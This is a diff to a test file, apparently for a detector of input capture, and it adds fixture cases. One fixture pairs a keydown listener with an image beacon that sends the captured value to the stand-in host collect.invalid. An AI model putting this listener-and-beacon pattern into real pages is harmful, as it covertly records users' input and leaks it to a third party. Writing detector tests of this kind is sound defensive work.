@@ -4,6 +4,22 @@ import { capturesInput } from './captures-input.ts';
 examine(capturesInput, {
   speaks: [
     {
+      when: 'a page shows a picture of what was dragged with a key held, in another file',
+      files: {
+        'index.js': `require('./keys').dragged(what => { const image = new Image(); image.src = what.source })`,
+        'keys.js': `exports.dragged = done => window.addEventListener('keydown', event => done(event.shiftKey ? event.target : null))`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the same goes to a host that stands in the code',
+      files: {
+        'index.js': `require('./keys').dragged(what => { const image = new Image(); image.src = 'https://collect.invalid/?' + what })`,
+        'keys.js': `exports.dragged = done => window.addEventListener('keydown', event => done(event.shiftKey ? event.target : null))`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a key leads the page to where its links lead',
       files: { 'index.js': `document.addEventListener('keydown', event => { if (event.key) window.location.href = '/' + event.key; });` },
       weight: 'weak',
